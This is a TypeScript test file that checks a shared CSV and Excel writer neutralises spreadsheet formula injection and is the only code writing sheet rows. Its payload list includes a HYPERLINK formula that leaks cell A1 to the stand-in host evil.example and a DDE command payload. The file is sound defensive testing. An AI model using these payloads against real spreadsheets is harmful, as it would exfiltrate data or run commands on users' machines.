import { readdirSync, readFileSync, statSync } from 'node:fs'
import { join, resolve } from 'node:path'
import ExcelJS from 'exceljs'
import { describe, expect, it } from 'vitest'
import { addSheetRow, csvText, neutraliseCell } from './spreadsheet'

// Payloads from OWASP's CSV injection page and from the hostile-input review (issue 14).
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Klik hier")',
  '+1+1',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  "=cmd|' /C calc'!A0",
]

describe('the shared CSV and Excel writer', () => {
  it.each(FORMULAS)('neutralises %j with a leading apostrophe', (v) => {
    expect(neutraliseCell(v)).toBe(`'${v}`)
  })

  it.each(['VPS-123', 'Wonen Limburg', '', "'al tekst", ' =met spatie ervoor', '€ 1.234,56'])(
    'leaves %j as it is',
    (v) => expect(neutraliseCell(v)).toBe(v),
  )

  it('writes CSV that a spreadsheet reads as the same text, never as a formula', () => {
    const csv = csvText([['Signaal-ID', 'Naam'], ...FORMULAS.map((f) => [f, 'a;b "c"\nd']), [-5, 12.5]])
    expect(csv.startsWith('\uFEFF')).toBe(true)
    const lines = csv.slice(1).split('\r\n')
    expect(lines[0]).toBe('Signaal-ID;Naam')
    expect(lines[1]).toBe(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Klik hier"")";"a;b ""c""\nd"`)
    expect(lines[2]).toBe(`'+1+1;"a;b ""c""\nd"`)
    // Every field, once unquoted, starts with an apostrophe or a harmless character
    for (const line of lines.slice(1, FORMULAS.length + 1)) expect(line).toMatch(/^"?'/)
    // The tab and carriage return cells are quoted whole
    expect(csv).toContain(`"'\r=1+1"`)
    expect(lines.at(-2)).toBe('-5;12.5')
  })

  it('writes Excel cells as text with the apostrophe, numbers as numbers', async () => {
    const wb = new ExcelJS.Workbook()
    const ws = wb.addWorksheet('Blad')
    for (const f of FORMULAS) addSheetRow(ws, [f, -3, null])
    const back = new ExcelJS.Workbook()
    await back.xlsx.load((await wb.xlsx.writeBuffer()) as ArrayBuffer)
    const sheet = back.getWorksheet('Blad')!
    FORMULAS.forEach((f, i) => {
      const row = sheet.getRow(i + 1)
      // XML reads a carriage return back as a newline
      expect(String(row.getCell(1).value)).toBe(`'${f}`.replace('\r', '\n'))
      expect(row.getCell(1).type).toBe(ExcelJS.ValueType.String)
      expect(row.getCell(2).value).toBe(-3)
    })
  })

  it('is the only writer: no other main-process file fills sheet rows or builds CSV lines itself', () => {
    const root = resolve(__dirname, '..')
    const files: string[] = []
    const walk = (dir: string) => {
      for (const name of readdirSync(dir)) {
        const p = join(dir, name)
        if (statSync(p).isDirectory()) walk(p)
        else if (/\.ts$/.test(name) && !/\.test\.ts$/.test(name)) files.push(p)
      }
    }
    walk(root)
    const offenders = files.filter((f) => {
      if (f.endsWith(join('lib', 'spreadsheet.ts'))) return false
      // The fuzz run's hostile files are written raw on purpose: formulas are their payload
      if (f.endsWith(join('web', 'fuzz', 'files.ts'))) return false
      const src = readFileSync(f, 'utf8')
      return /\.addRows?\(|\.getCell\([^)]*\)\.value\s*=|join\(['"][;,]['"]\)\s*\)?\.join\(['"]\\r\\n/.test(
        src,
      )
    })
    expect(offenders).toEqual([])
  })
})
